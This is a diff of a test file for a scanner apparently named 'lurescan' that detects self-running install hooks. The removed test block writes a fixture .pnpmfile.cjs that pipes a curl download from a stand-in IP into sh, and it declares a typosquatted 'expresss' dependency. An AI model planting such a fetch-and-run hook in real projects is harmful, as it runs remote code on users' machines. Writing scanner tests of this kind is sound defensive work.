@@ -1,9 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { after, describe, it } from 'node:test';
-import { scan } from '../index.js';
+import { describe, it } from 'node:test';
 import { filesRunByAutorun, type AutorunEntry } from './autorun.js';
 
 const entry = (file: string, leadsTo: string[] = []): AutorunEntry => ({ trigger: 'npm-install', command: 'x', file, line: 1, leadsTo });
@@ -23,22 +19,5 @@ describe('filesRunByAutorun', () => {
   it('does not count a declaring manifest or config (package.json, tasks.json, .npmrc, Makefile) as run', () => {
     const run = filesRunByAutorun([entry('package.json', ['server.js']), entry('.vscode/tasks.json'), entry('.npmrc'), entry('Makefile'), entry('.git/config')]);
     assert.deepEqual([...run], ['server.js']);
-  });
-});
-
-describe('scan: findings in self-running autorun files weigh as autorun', () => {
-  const dir = mkdtempSync(join(tmpdir(), 'lurescan-selfrun-'));
-  after(() => rmSync(dir, { recursive: true, force: true }));
-
-  it('marks a .pnpmfile.cjs finding autorun, and a package.json dependency finding not', async () => {
-    mkdirSync(join(dir, 'p'));
-    writeFileSync(join(dir, 'p', 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { 'expresss': '^4.0.0' } }));
-    writeFileSync(join(dir, 'p', '.pnpmfile.cjs'), "require('child_process').exec('curl -s http://203.0.113.12/p | sh');\nmodule.exports = { hooks: {} };\n");
-    const r = await scan(join(dir, 'p'), { threads: 0 });
-    const inHook = r.findings.filter((f) => f.file === '.pnpmfile.cjs');
-    assert.ok(inHook.length > 0, 'the pnpmfile has findings');
-    assert.ok(inHook.every((f) => f.autorun === true), 'pnpmfile findings are autorun');
-    const inManifest = r.findings.filter((f) => f.file === 'package.json');
-    assert.ok(inManifest.every((f) => !f.autorun), 'package.json findings are not autorun');
   });
 });
